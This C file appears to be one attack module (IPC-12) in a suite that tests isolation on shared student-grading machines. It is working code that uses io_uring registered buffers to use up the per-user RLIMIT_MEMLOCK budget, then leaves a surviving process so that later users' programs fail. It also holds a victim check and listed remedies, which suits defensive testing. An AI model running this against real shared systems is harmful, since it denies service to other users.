// SPDX-License-Identifier: MIT
/*
 * registered-buffers.c - eight megabytes that everybody shares.
 *
 * Goal: the next student's honest program cannot register its buffers.
 * Means: what io_uring pins is charged to RLIMIT_MEMLOCK of the user, not of the process: 8 MiB by
 * default, for all. A survivor registers them, in halves and halves of halves until nothing is left
 * that would be worth it. The charge goes by the machine's uid, so this is for arenas whose ids are
 * nobody else's.
 */
#include "attacks/ipc-residue/residue.h"

#include <errno.h>
#include <linux/io_uring.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/uio.h>

#define ALL   (8UL << 20)
#define LEAST (512UL << 10) /* what is left is enough for a ring, not for its buffer */
#define NEED  (1UL << 20)   /* the honest student's */
#define MOST  32            /* buffers, each in a ring of its own */

static int open_ring(void)
{
	struct io_uring_params params = { 0 };

	return (int)syscall(SYS_io_uring_setup, 2, &params);
}

/* Have n bytes pinned. 0, or -1 with errno. */
static int pin(int ring, size_t n)
{
	struct iovec buffer = { mmap(NULL, n, PROT_READ | PROT_WRITE,
				     MAP_PRIVATE | MAP_ANONYMOUS, -1, 0), n };

	return (int)syscall(SYS_io_uring_register, ring, IORING_REGISTER_BUFFERS, &buffer, 1);
}

static enum claim run(const struct brief *b)
{
	int line[2], pinned = 0, ring;
	pid_t pid;

	attempting(b);
	open_line(line);
	if ((ring = open_ring()) < 0)
		return denied("io_uring_setup");
	for (size_t n = ALL / 2; n >= LEAST; n /= 2)
		while (pinned < MOST && ring >= 0 && !pin(ring, n)) {
			pinned++;
			ring = open_ring();
		}
	if (!pinned)
		return denied("io_uring_register");
	pid = fork();
	if (pid)
		return pid < 0 ? denied("fork") : until_gone(line);
	stay_behind(line);
}

/*
 * Copies a file as fast as can be; without a ring it reads and writes. It is patient: the kernel
 * gives back what the dead had pinned when it finds the time.
 */
static enum claim victim(const struct brief *b)
{
	int ring = open_ring();

	(void)b;
	for (int patience = 0; ring >= 0 && patience < 100; patience++) {
		if (!pin(ring, NEED) || errno != ENOMEM)
			return CLAIM_DONE;
		usleep(10000);
	}
	return ring < 0 ? CLAIM_DONE : failed("io_uring_register");
}

const struct attack attack = {
	.effect = "the next student cannot register buffers",
	.means = "a survivor's io_uring buffers use up what the user may lock in memory",
	.oracle = "victim",
	.scene = SCENE_BEFORE_VICTIM,
	.needs = NEED_IO_URING | NEED_IDS,
	.id = "IPC-12",
	.attack_id = "T1499.001, CWE-770, CWE-772",
	.remedy =
		"an allow list of system calls; RLIMIT_MEMLOCK = 0; end every process of a student",
	.refs = (const char *const[]){ "io_uring_register(2), RLIMIT_MEMLOCK", NULL },
	.run = run,
	.victim = victim,
};
